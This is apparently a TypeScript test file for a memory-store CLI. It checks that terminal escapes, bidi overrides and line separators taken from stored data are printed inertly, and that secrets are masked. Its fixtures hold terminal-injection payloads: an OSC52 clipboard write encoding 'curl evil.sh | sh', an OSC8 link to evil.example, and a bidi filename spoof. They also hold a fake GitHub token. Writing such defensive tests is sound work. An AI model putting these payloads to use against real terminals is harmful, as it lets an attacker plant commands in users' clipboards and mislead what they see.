import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { copyFileSync } from 'node:fs';
import { join } from 'node:path';
import { cli } from './helpers/cli.js';
import { makeStore, tempDir, type Row } from './helpers/store.js';
import { openStateDb } from '../src/state/state.js';
import { storeNameForPath } from '../src/layouts/open.js';

/**
 * Store text never drives the terminal: every human-readable output of the real CLI, for a store whose ids,
 * subjects, facts and sources hold terminal escapes, C1 controls, bidi overrides and line separators, holds
 * none of them raw; `--json` gives back the exact stored strings.
 */

const ESC = '\u001b';
const OSC52 = `${ESC}]52;c;${Buffer.from('curl evil.sh | sh').toString('base64')}\u0007`;
const OSC8 = `${ESC}]8;;http://evil.example/${ESC}\\click${ESC}]8;;${ESC}\\`;
const CSI = `${ESC}[2J${ESC}[31m`;
const DCS = `${ESC}P1;2|17/ab${ESC}\\`;
const C1 = '\u009b31m\u009d0;title\u009c\u0085';
const BIDI = '\u202Egnp.exe\u202C \u2066x\u2069 \u2067y\u2069 \u2068z\u2069 \u200F\u061C';
const LINES = 'a\rOK\u2028b\u2029c\nforged line\u000b\u000c';
const HIDDEN = '\u00AD\u200B\uFEFF\u{E0041}\uFE0F\u180E';

// What must never reach a terminal raw: every control but our own \n, format characters, line separators.
const RAW = /(?!\n)[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u;

const ids = {
  due: `m_osc${OSC52}`,
  bidi: `m_${BIDI}`,
  c1: `m_${C1}${LINES}`,
  dangling: `d_${CSI}`,
  cascaded: `c_${DCS}`,
  odd: `t_${HIDDEN}${ESC}[1m`,
};
const old = '2025-01-01 00:00:00';
const TOKEN = ['ghp', '_', 'Zq8Lm2Xv7Rt4Kp9Wn3Bc6Hd1Jf5Gs0Ay2Ee'].join('');
const DB_PASSWORD = ['Pg5', 'ecretPassw0rd'].join('');
const rows: Row[] = [
  { id: ids.due, subject: `s${CSI}`, fact: `pnpm ${OSC8} \u0000 ${OSC52}`, source: `src ${BIDI}`, created_at: old, confirmed_at: old },
  { id: ids.bidi, subject: BIDI, fact: `f ${C1}`, source: LINES, created_at: old, confirmed_at: old },
  { id: ids.c1, subject: HIDDEN, fact: `fact ${LINES}`, source: DCS, created_at: old, confirmed_at: old },
  { id: ids.dangling, fact: 'gone', superseded_by: `ghost${OSC52}`, created_at: old, confirmed_at: old },
  { id: ids.cascaded, fact: 'older', superseded_by: ids.dangling, created_at: old, confirmed_at: old },
  { id: 'm_secret', fact: `deploy with ${TOKEN}`, source: `postgres://app:${DB_PASSWORD}@db.internal/app`, created_at: old, confirmed_at: old },
  // Not canonical UTC: check names it by id.
  { id: ids.odd, fact: `x ${CSI}`, created_at: '2025-01-01T00:00:00+02:00', confirmed_at: old },
];

let tmp: { dir: string; cleanup: () => void };
let db: string;
let env: Record<string, string>;

beforeEach(() => {
  tmp = tempDir('mw-terminal-');
  db = makeStore(join(tmp.dir, 'agent.db'), rows);
  env = { MEMORY_WARDEN_CONFIG: '', MEMORY_WARDEN_STATE: join(tmp.dir, 'state.db') };
  const state = openStateDb(env.MEMORY_WARDEN_STATE!);
  state.prepare(`INSERT INTO drift_verdicts (store, memory_id, verdict, verifier, evidence, checked_at, needs_person) VALUES (?, ?, ?, ?, ?, ?, 1)`)
    .run(storeNameForPath(db), ids.due, 'changed', 'http', JSON.stringify({ reason: `page says ${OSC52}`, previous: { value: CSI }, current: { value: BIDI }, replacement: { fact: `new ${C1}` } }), '2026-11-01 00:00:00');
  state.close();
});
afterEach(() => tmp.cleanup());

const NOW = ['--now', '2026-12-01T00:00:00Z'];

function human(args: string[]) {
  const r = cli(args, env);
  expect(r.stdout + r.stderr, `${args.join(' ')} printed a raw control`).not.toMatch(RAW);
  return r;
}

describe('human-readable output shows store text inert', () => {
  it('check: findings and ids', () => {
    const r = human(['check', '--db', db, ...NOW]);
    expect(r.code).toBe(1);
    expect(r.stdout).toContain('t_\\u00ad\\u200b\\ufeff\\u{e0041}\\ufe0f\\u180e\\u001b[1m:created_at');
    expect(r.stdout).not.toMatch(/^forged line/m);
  });

  it('review list: ids, facts, sources, drift evidence and the proposal', () => {
    const r = human(['review', 'list', '--db', db, ...NOW]);
    expect(r.code).toBe(0);
    expect(r.stdout).toContain('m_osc\\u001b]52;c;');
    expect(r.stdout).toContain('\\u202egnp.exe');
    // One line per field: a newline in a fact is shown, not obeyed.
    expect(r.stdout).not.toMatch(/^forged line/m);
    // Credentials are masked for a person's eyes.
    expect(r.stdout).toContain('deploy with ghp_…[masked]');
    expect(r.stdout).not.toContain(TOKEN.slice(4));
    expect(r.stdout).not.toContain(DB_PASSWORD);
  });

  it('review confirm, expire, supersede, delete of hostile ids', () => {
    expect(human(['review', 'confirm', '--db', db, ...NOW, '--', ids.bidi]).stdout).toContain('confirmed m_\\u202egnp.exe');
    expect(human(['review', 'expire', '--db', db, ...NOW, '--in', '7d', '--', ids.c1]).code).toBe(0);
    expect(human(['review', 'supersede', '--db', db, ...NOW, '--fact', 'f', '--source', 's', '--', ids.due]).code).toBe(0);
    const del = human(['review', 'delete', '--db', db, ...NOW, '--', ids.odd]);
    expect(del.code).toBe(0);
    expect(del.stdout).toContain('deleted t_\\u00ad');
  }, 120_000);

  it('repair dangling lists what it deleted', () => {
    const r = human(['repair', 'dangling', '--db', db]);
    expect(r.code).toBe(0);
    expect(r.stdout).toContain('dangling  d_\\u001b[2J');
    expect(r.stdout).toContain('cascaded  c_\\u001bP1');
  });

  it('an error naming a hostile id is one inert line', () => {
    const r = human(['review', 'confirm', '--db', db, ...NOW, '--', `nope${OSC52}\n${CSI}`]);
    expect(r.code).not.toBe(0);
    expect(r.stderr.trim().split('\n')).toHaveLength(1);
  });
});

describe('--json gives back the exact stored strings', () => {
  const exactJson = (args: string[]) => {
    const r = cli(args, env);
    // Still safe to print: C1 and bidi characters are \u escapes inside the JSON strings.
    expect(r.stdout).not.toMatch(RAW);
    return r.json();
  };

  it('check, review list, review confirm, repair dangling', () => {
    const check = exactJson(['check', '--db', db, ...NOW, '--json']);
    const finding = [...check.problems, ...check.notes].find((f: { code: string }) => f.code === 'noncanonical_time');
    expect(finding.ids).toContain(`${ids.odd}:created_at`);

    const list = exactJson(['review', 'list', '--db', db, ...NOW, '--json']);
    expect(list.pending[0].memoryId).toBe(ids.due);
    expect(list.pending[0].memory.fact).toBe(rows[0]!.fact);
    expect(list.pending[0].evidence.reason).toBe(`page says ${OSC52}`);
    const next = new Map(list.next.map((r: { id: string; fact: string; source: string }) => [r.id, r]));
    expect((next.get(ids.c1) as { fact: string }).fact).toBe(rows[2]!.fact);
    expect((next.get(ids.bidi) as { source: string }).source).toBe(LINES);
    expect((next.get('m_secret') as { fact: string }).fact).toBe(`deploy with ${TOKEN}`);

    expect(exactJson(['review', 'confirm', '--db', db, ...NOW, '--json', '--', ids.bidi]).id).toBe(ids.bidi);

    const copy = join(tmp.dir, 'copy.db');
    copyFileSync(db, copy);
    const repaired = exactJson(['repair', 'dangling', '--db', copy, '--json']);
    expect(repaired.dangling).toEqual([ids.dangling]);
    expect(repaired.cascaded).toEqual([ids.cascaded]);
  }, 120_000);
});
